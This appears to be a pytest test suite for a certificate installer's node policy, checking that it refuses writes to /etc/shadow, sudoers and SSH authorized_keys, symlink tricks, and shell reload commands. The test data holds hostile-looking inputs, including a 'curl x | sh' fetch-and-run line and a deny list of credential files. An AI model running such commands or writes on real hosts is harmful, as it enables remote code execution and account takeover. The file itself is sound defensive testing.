"""The node policy (installer/install_bundle.py, README "The node policy"): the node decides which
paths the installer may write and which commands it may run; the inventory cannot widen it.

Every path written or offered here is under pytest's tmp_path. The few system paths named
(/etc/shadow) are only read (lstat) by in-process checks, or offered to the installer run as
the unprivileged user "nobody" with no policy file (the default policy): even a broken check
could not write them. The module's guard compares the bytes and mode of /etc/shadow, /etc/passwd
and /root/.ssh/authorized_keys before and after every test.
"""

from __future__ import annotations

import base64
import hashlib
import importlib.util
import json
import os
import shutil
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from pydantic import ValidationError

INSTALLER = Path(__file__).resolve().parents[2] / "installer" / "install_bundle.py"
GUARDED = ("/etc/shadow", "/etc/passwd", "/root/.ssh/authorized_keys")
SECRET_ARN = "arn:aws:secretsmanager:eu-west-1:123456789012:secret:rollout/web-AbCdEf"


def system_files_snapshot() -> dict[str, tuple[str, int] | None]:
    """{path: (SHA-256 of the bytes, mode) or None when absent} of the system files no test may
    change (a digest: a failing assertion must not print /etc/shadow)."""
    out: dict[str, tuple[str, int] | None] = {}
    for path in GUARDED:
        try:
            out[path] = (hashlib.sha256(Path(path).read_bytes()).hexdigest(), os.lstat(path).st_mode)
        except FileNotFoundError:
            out[path] = None
        except PermissionError:  # not root: mode only (the file cannot be changed by us either)
            out[path] = ("", os.lstat(path).st_mode)
    return out


@pytest.fixture(autouse=True)
def system_files_unchanged() -> Iterator[None]:
    before = system_files_snapshot()
    yield
    assert system_files_snapshot() == before, "a system file changed: this must never happen"


def _load_installer() -> Any:
    spec = importlib.util.spec_from_file_location("_install_bundle_node_policy", INSTALLER)
    assert spec and spec.loader
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


ib = _load_installer()


# --------------------------------------------------------------------------- a node under tmp_path


class PolicyNode:
    """A managed node under tmp_path: certificate directory, state directory, its owner's policy
    file, a fake `aws` that records being called (it never should be here)."""

    def __init__(self, tmp: Path) -> None:
        self.tmp = tmp
        self.ssl = tmp / "ssl"
        self.ssl.mkdir()
        self.state = tmp / "state"
        self.policy = tmp / "policy" / "node-policy.json"
        self.policy.parent.mkdir()
        self.bin = tmp / "bin"
        self.bin.mkdir()
        self.aws_log = tmp / "aws-called"
        aws = self.bin / "aws"
        aws.write_text(f"#!/bin/sh\ntouch {self.aws_log}\nexit 1\n")
        aws.chmod(0o755)
        self.marker = tmp / "command-ran"
        self.write_policy({"writeDirectories": [str(self.ssl)], "commands": [["true"]]})

    def write_policy(self, policy: Any, mode: int = 0o644) -> None:
        self.policy.write_text(policy if isinstance(policy, str) else json.dumps(policy))
        self.policy.chmod(mode)

    def target(self, files: list[dict[str, Any]], test: list[str] | None = None,
               reload: list[str] | None = None) -> dict[str, Any]:
        return {"targetId": "web-1", "server": "generic", "files": files, "testCommand": test,
                "reloadCommand": reload}

    def run(self, target: dict[str, Any], action: str = "install", policy: str | None = None) -> tuple[int, dict]:
        """The installer with a crafted payload: no inventory validation in between."""
        env = {"PATH": f"{self.bin}:/usr/bin:/bin", "HOME": str(self.tmp),
               "CERT_ROLLOUT_FETCH": "aws-cli",  # the fake aws above (tests/unit/test_installer_fetch.py: the others)
               "CERT_ROLLOUT_STATE_DIR": str(self.state),
               "CERT_ROLLOUT_NODE_POLICY": str(self.policy) if policy is None else policy,
               "ROLLOUT_ACTION": action, "ROLLOUT_SECRET_ARN": SECRET_ARN,
               "ROLLOUT_TARGET": base64.b64encode(json.dumps(target).encode()).decode()}
        proc = subprocess.run([sys.executable, str(INSTALLER)], env=env, capture_output=True, text=True, timeout=60)
        [line] = proc.stdout.splitlines()
        result = json.loads(line[len("ROLLOUT_RESULT "):])
        assert result["exitCode"] == proc.returncode
        return proc.returncode, result

    def untouched(self) -> None:
        """Nothing was locked, fetched, written or run."""
        assert not self.state.exists()
        assert not self.aws_log.exists()
        assert not self.marker.exists()
        assert sorted(p.name for p in self.ssl.iterdir() if not p.is_symlink()) == []  # a test's own links stay


@pytest.fixture
def node(tmp_path: Path) -> PolicyNode:
    return PolicyNode(tmp_path)


def denied(node: PolicyNode, target: dict[str, Any], *fragments: str, action: str = "install") -> dict:
    code, result = node.run(target, action)
    assert (code, result["reason"], result["status"]) == (ib.EXIT_POLICY, "node-policy-denied", "failed"), result
    for fragment in fragments:
        assert fragment in result["error"], result["error"]
    node.untouched()
    return result


def pem(node: PolicyNode, name: str = "a.pem", **extra: Any) -> dict[str, Any]:
    return {"path": str(node.ssl / name), "content": "fullchain", **extra}


# --------------------------------------------------------------------------- the items


def test_a_shell_reload_is_refused_and_never_runs(node: PolicyNode) -> None:
    denied(node, node.target([pem(node)], reload=["sh", "-c", f"touch {node.marker}"]),
           "reloadCommand", "not one of the node policy's commands")


def test_another_entrys_backup_and_staging_names_are_refused(node: PolicyNode) -> None:
    for name in ("a.pem.rollout-bak", "a.pem.rollout-new", "a.pem.rollout-absent", "a.pem.rollout-0123456789abcdef.new"):
        denied(node, node.target([pem(node), {"path": str(node.ssl / name), "content": "key"}]), name,
               "installer's own")


def test_another_entrys_path_and_password_file_are_refused(node: PolicyNode) -> None:
    denied(node, node.target([{"path": str(node.ssl / "a.p12"), "content": "pkcs12"},
                              {"path": str(node.ssl / "a.p12.pass"), "content": "chain"}]), "is also")


def test_a_path_through_a_symbolic_link_is_refused(node: PolicyNode, tmp_path: Path) -> None:
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (node.ssl / "sub").symlink_to(elsewhere, target_is_directory=True)
    denied(node, node.target([{"path": str(node.ssl / "sub" / "a.pem"), "content": "fullchain"}]),
           "symbolic link", str(node.ssl / "sub"))
    assert list(elsewhere.iterdir()) == []
    (node.ssl / "sub").unlink()
    (node.ssl / "a.pem").symlink_to(elsewhere / "target.pem")  # the file itself is a link
    code, result = node.run(node.target([pem(node)]))
    assert (code, result["reason"]) == (ib.EXIT_POLICY, "node-policy-denied") and "symbolic link" in result["error"]
    assert list(elsewhere.iterdir()) == [] and not node.state.exists()


def test_a_write_directory_reached_through_a_symbolic_link_is_refused(node: PolicyNode, tmp_path: Path) -> None:
    (tmp_path / "ssl-link").symlink_to(node.ssl, target_is_directory=True)
    node.write_policy({"writeDirectories": [str(tmp_path / "ssl-link")], "commands": []})
    denied(node, node.target([{"path": str(tmp_path / "ssl-link" / "a.pem"), "content": "fullchain"}]),
           "symbolic link")


@pytest.mark.parametrize("path", ["/etc/shadow", "/etc/passwd", "/etc/sudoers", "/etc/sudoers.d/x",
                                  "/root/.ssh/authorized_keys", "/home/u/.ssh/authorized_keys", "/var/lib/cert-rollout/x"])
def test_the_deny_list_holds_in_process_even_when_the_policy_allows_everything(path: str) -> None:
    """Only lstat is called: check_node_policy never opens or writes a file."""
    policy = ib.NodePolicy({"writeDirectories": ["/etc", "/home", "/root", "/var"], "commands": []}, "test")
    target = ib.Target({"targetId": "t", "files": [{"path": path, "content": "key"}]})
    with pytest.raises(ib.RolloutFailure) as refused:
        ib.check_node_policy(target, policy)
    assert refused.value.reason == "node-policy-denied" and refused.value.code == ib.EXIT_POLICY
    assert "deny list" in str(refused.value)


def test_the_node_refuses_etc_shadow_with_the_default_policy(tmp_path: Path) -> None:
    """The installer itself, as the inventory could call it, with no policy file: /etc/shadow is
    refused. Run as the unprivileged user nobody when we are root, so that even a broken check
    could not write it (the guard checks it did not change)."""
    python = shutil.which("python3", path="/usr/bin:/bin") if os.geteuid() == 0 else sys.executable
    if python is None:
        pytest.skip("no system python3 to run the installer as nobody")
    target = {"targetId": "web-1", "files": [{"path": "/etc/shadow", "content": "key", "mode": "0600"}],
              "reloadCommand": ["true"]}
    env = {"PATH": "/usr/bin:/bin", "CERT_ROLLOUT_NODE_POLICY": "/nonexistent-node-policy/node-policy.json",
           "CERT_ROLLOUT_STATE_DIR": str(tmp_path / "state"), "ROLLOUT_ACTION": "install",
           "ROLLOUT_SECRET_ARN": SECRET_ARN,
           "ROLLOUT_TARGET": base64.b64encode(json.dumps(target).encode()).decode()}

    def as_nobody() -> None:
        if os.geteuid() == 0:
            os.setgroups([])
            os.setgid(65534)
            os.setuid(65534)

    proc = subprocess.run([python, "-"], input=INSTALLER.read_text(), env=env, cwd="/", capture_output=True,
                          text=True, timeout=60, preexec_fn=as_nobody)
    result = json.loads(proc.stdout.splitlines()[-1][len("ROLLOUT_RESULT "):])
    assert (proc.returncode, result["reason"]) == (ib.EXIT_POLICY, "node-policy-denied"), result
    assert "/etc/shadow" in result["error"] and "the default node policy" in result["error"]
    assert not (tmp_path / "state").exists()


def test_the_installers_own_state_and_policy_are_never_written(node: PolicyNode) -> None:
    node.write_policy({"writeDirectories": [str(node.tmp)], "commands": []})
    denied(node, node.target([{"path": str(node.state / "web-1" / "backup.json"), "content": "key"}]),
           f"inside {node.state}")
    denied(node, node.target([{"path": str(node.policy), "content": "chain"}]), "node policy file")
    denied(node, node.target([{"path": str(node.tmp / ".ssh" / "authorized_keys"), "content": "leaf"}]), "SSH")


# --------------------------------------------------------------------------- paths, modes, commands


@pytest.mark.parametrize("suffix", ["//a.pem", "/./a.pem", "/x/../a.pem"])
def test_a_path_that_is_not_canonical_is_refused(node: PolicyNode, suffix: str) -> None:
    denied(node, node.target([{"path": str(node.ssl) + suffix, "content": "fullchain"}]), "canonical")


def test_a_directory_is_allowed_at_a_path_component_boundary_only(node: PolicyNode, tmp_path: Path) -> None:
    (tmp_path / "ssl-evil").mkdir()
    denied(node, node.target([{"path": str(tmp_path / "ssl-evil" / "a.pem"), "content": "fullchain"}]),
           "outside the node policy's writeDirectories")
    assert list((tmp_path / "ssl-evil").iterdir()) == []


def test_modes_beyond_the_policys_maximum_are_refused(node: PolicyNode) -> None:
    denied(node, node.target([pem(node, mode="0666")]), "mode 0666", "maxModes certificate 0644")
    node.write_policy({"writeDirectories": [str(node.ssl)], "commands": [], "maxModes": {"key": "0600"}})
    denied(node, node.target([{"path": str(node.ssl / "a.key"), "content": "key", "mode": "0640"}]),
           "maxModes key 0600")


def test_a_path_argument_must_pass_the_path_checks(node: PolicyNode) -> None:
    node.write_policy({"writeDirectories": [str(node.ssl)], "commands": [["true", "{path}"]]})
    policy = ib.NodePolicy(json.loads(node.policy.read_text()), "test")
    assert ib._command_allowed(["true", str(node.ssl / "haproxy.cfg")], policy)
    assert not ib._command_allowed(["true", "/etc/shadow"], policy)
    assert not ib._command_allowed(["true", str(node.tmp / "elsewhere.cfg")], policy)
    assert not ib._command_allowed(["true", str(node.ssl / "a.cfg"), "extra"], policy)
    denied(node, node.target([pem(node)], test=["true", str(node.tmp / "x.cfg")]), "testCommand")


def test_an_allowed_target_gets_past_the_policy(node: PolicyNode) -> None:
    """The same node and policy let an allowed target through: it reaches the fetch (the fake aws
    fails it), so the refusals above are the policy's, not the set-up's."""
    code, result = node.run(node.target([pem(node), {"path": str(node.ssl / "a.key"), "content": "key"}],
                                        reload=["true"]))
    assert (code, result["stage"]) == (ib.EXIT_FETCH, "fetch"), result
    assert node.aws_log.exists() and result["reason"] == "bundle-fetch-failed", result  # not a policy reason


def test_a_rollback_is_checked_too(node: PolicyNode) -> None:
    denied(node, node.target([{"path": "/etc/shadow", "content": "key"}]), "/etc/shadow", action="rollback")


# --------------------------------------------------------------------------- the policy file


@pytest.mark.parametrize(("policy", "fragment"), [
    ("{not json", "not readable JSON"),
    ([], "JSON object"),
    ({"writeDirectories": [], "commands": [], "allowEverything": True}, "unknown key"),
    ({"writeDirectories": ["relative/dir"], "commands": []}, "absolute"),
    ({"writeDirectories": ["/"], "commands": []}, "root directory"),
    ({"writeDirectories": ["/etc//ssl"], "commands": []}, "canonical"),
    ({"writeDirectories": [], "commands": "nginx -t"}, "argv lists"),
    ({"writeDirectories": [], "commands": [[]]}, "argv lists"),
    ({"writeDirectories": [], "commands": [["{path}"]]}, "program"),
    ({"commands": []}, "writeDirectories"),
    ({"writeDirectories": [], "commands": [], "maxModes": {"key": "0777x"}}, "maxModes"),
    ({"writeDirectories": [], "commands": [], "version": 2}, "version"),
])
def test_a_malformed_policy_file_is_refused(node: PolicyNode, policy: Any, fragment: str) -> None:
    node.write_policy(policy if isinstance(policy, str) else json.dumps(policy))
    code, result = node.run(node.target([pem(node)]))
    assert (code, result["reason"]) == (ib.EXIT_POLICY_INVALID, "node-policy-invalid"), result
    assert fragment in result["error"], result["error"]
    node.untouched()


def test_a_policy_file_others_can_change_is_refused(node: PolicyNode, tmp_path: Path) -> None:
    node.write_policy({"writeDirectories": [str(node.ssl)], "commands": []}, mode=0o666)
    code, result = node.run(node.target([pem(node)]))
    assert (code, result["reason"]) == (ib.EXIT_POLICY_INVALID, "node-policy-invalid") and "writable" in result["error"]
    node.policy.chmod(0o644)
    (tmp_path / "linked-policy.json").symlink_to(node.policy)
    code, result = node.run(node.target([pem(node)]), policy=str(tmp_path / "linked-policy.json"))
    assert (code, result["reason"]) == (ib.EXIT_POLICY_INVALID, "node-policy-invalid"), result
    code, result = node.run(node.target([pem(node)]), policy="relative/node-policy.json")
    assert (code, result["reason"]) == (ib.EXIT_POLICY_INVALID, "node-policy-invalid"), result
    node.untouched()


def test_without_a_policy_file_the_default_applies(node: PolicyNode) -> None:
    code, result = node.run(node.target([pem(node)]), policy=str(node.tmp / "absent.json"))
    assert (code, result["reason"]) == (ib.EXIT_POLICY, "node-policy-denied"), result
    assert "the default node policy" in result["error"] and "/etc/nginx" in result["error"]
    node.untouched()


# --------------------------------------------------------------------------- tied to the product


def test_the_default_policy_covers_every_default_the_product_generates(monkeypatch: pytest.MonkeyPatch) -> None:
    """rollout_core/target_defaults.py: every kind's default files (in its default directory, and in
    a directory below a standard one), modes and test/reload commands (each reload style) pass
    DEFAULT_NODE_POLICY. The filesystem is not consulted (this host's /etc is not a target's)."""
    from rollout_core.target_defaults import DEFAULT_DIRECTORIES, HAPROXY_CONFIG, complete_target

    monkeypatch.setattr(ib, "_symlink_in", lambda path: None)
    policy = ib.NodePolicy(ib.DEFAULT_NODE_POLICY, "the default node policy")
    for kind in DEFAULT_DIRECTORIES:
        styles = [None] if kind == "java" else (["systemctl"] if kind == "haproxy" else ["signal", "systemctl"])
        for style in styles:
            for paths in ({}, {"directory": f"{DEFAULT_DIRECTORIES[kind]}/sub", "config": HAPROXY_CONFIG}):
                hint = {**paths, **({"reload": style} if style else {})}
                if kind != "haproxy":
                    hint.pop("config", None)
                item = complete_target({"targetId": "web-1", "server": kind, "paths": hint})
                target = ib.Target({**item, "targetId": "web-1"})
                ib.check_node_policy(target, policy)  # raises when the default misses one


def test_the_default_policy_runs_no_shell() -> None:
    from rollout_core.models import SHELLS

    for argv in ib.DEFAULT_NODE_POLICY["commands"]:
        assert not {Path(a).name for a in argv} & SHELLS, argv


def test_the_models_sensitive_paths_are_the_nodes_deny_list() -> None:
    """Two places that must agree: rollout_core/models.py SENSITIVE_* (inventory validation) and
    installer/install_bundle.py NODE_DENIED_* (the node, which is the authority)."""
    from rollout_core import models

    assert models.SENSITIVE_FILES == ib.NODE_DENIED_FILES
    assert models.SENSITIVE_DIRECTORIES == ib.NODE_DENIED_DIRECTORIES
    assert models.SENSITIVE_NAMES == ib.NODE_DENIED_NAMES
    assert models.SSH_DIRECTORY_NAME == ib.NODE_DENIED_COMPONENT
    assert models.RESERVED_NAME_PART == ib.RESERVED_NAME_PART
    assert ib.DEFAULT_STATE_DIR in models.SENSITIVE_DIRECTORIES
    assert os.path.dirname(ib.NODE_POLICY_FILE) in models.SENSITIVE_DIRECTORIES
    for name in (ib.NEW_SUFFIX, ib.BAK_SUFFIX, ib.ABSENT_SUFFIX, ib._staged_name("", "0" * 16)):
        assert ib.RESERVED_NAME_PART in name, name


ARN = "arn:aws:acm:eu-west-1:123456789012:certificate/12345678-1234-1234-1234-123456789012"


def _item(**overrides: Any) -> dict[str, Any]:
    item = {"certificateArn": ARN, "targetId": "web-1", "host": "web.internal.example", "port": 443,
            "instanceId": "i-0123456789abcdef0", "server": "generic",
            "files": [{"path": "/etc/ssl/web/a.pem", "content": "fullchain"}], "reloadCommand": ["nginx", "-s", "reload"]}
    item.update(overrides)
    return item


@pytest.mark.parametrize(("overrides", "fragment"), [
    ({"files": [{"path": "/etc/shadow", "content": "key"}]}, "system account"),
    ({"files": [{"path": "/root/.ssh/authorized_keys", "content": "leaf"}]}, "/root"),
    ({"files": [{"path": "/home/u/.ssh/authorized_keys", "content": "leaf"}]}, "SSH"),
    ({"files": [{"path": "/etc/ssl/a.pem", "content": "fullchain"},
                {"path": "/etc/ssl/a.pem.rollout-bak", "content": "key"}]}, ".rollout-"),
    ({"files": [{"path": "/etc/ssl/a.pem", "content": "fullchain", "mode": "0666"}]}, "writable by others"),
    ({"reloadCommand": ["sh", "-c", "curl x | sh"]}, "inline shell script"),
    ({"reloadCommand": ["/usr/bin/env", "bash", "-ec", "echo hi"]}, "inline shell script"),
    ({"testCommand": ["busybox", "sh", "-c", "id"]}, "inline shell script"),
])
def test_the_target_model_refuses_the_obvious(overrides: dict[str, Any], fragment: str) -> None:
    from rollout_core.models import Target

    with pytest.raises(ValidationError) as refused:
        Target.model_validate(_item(**overrides))
    assert fragment in str(refused.value)


def test_the_target_model_keeps_what_the_node_decides() -> None:
    """A script file run by a shell, and any directory: the node's policy decides those."""
    from rollout_core.models import Target

    Target.model_validate(_item(reloadCommand=["/bin/sh", "/opt/app/reload.sh"],
                                files=[{"path": "/opt/app/tls/a.pem", "content": "fullchain", "mode": "0664"}]))


def test_a_node_policy_refusal_is_the_targets_reason_and_changed_nothing() -> None:
    from rollout_core.domain.ssm_status import INSTALLER_REASONS
    from rollout_core.logic.commands import command_status

    assert INSTALLER_REASONS["node-policy-denied"] is False and INSTALLER_REASONS["node-policy-invalid"] is False
    for reason, code in (("node-policy-denied", 19), ("node-policy-invalid", 21)):
        result = {"action": "install", "status": "failed", "stage": "write", "reason": reason, "exitCode": code,
                  "error": f"{reason}: files[0].path '/etc/shadow' ...: nothing changed"}
        invocation = {"Status": "Failed", "StatusDetails": "Failed", "ResponseCode": code,
                      "StandardOutputContent": "ROLLOUT_RESULT " + json.dumps(result) + "\n"}
        status = command_status("c-1", "i-0123456789abcdef0", invocation=invocation, action="install")
        assert (status.state, status.reason, status.filesChanged) == ("FAILED", reason, "no"), status
        assert "/etc/shadow" in (status.detail or "")

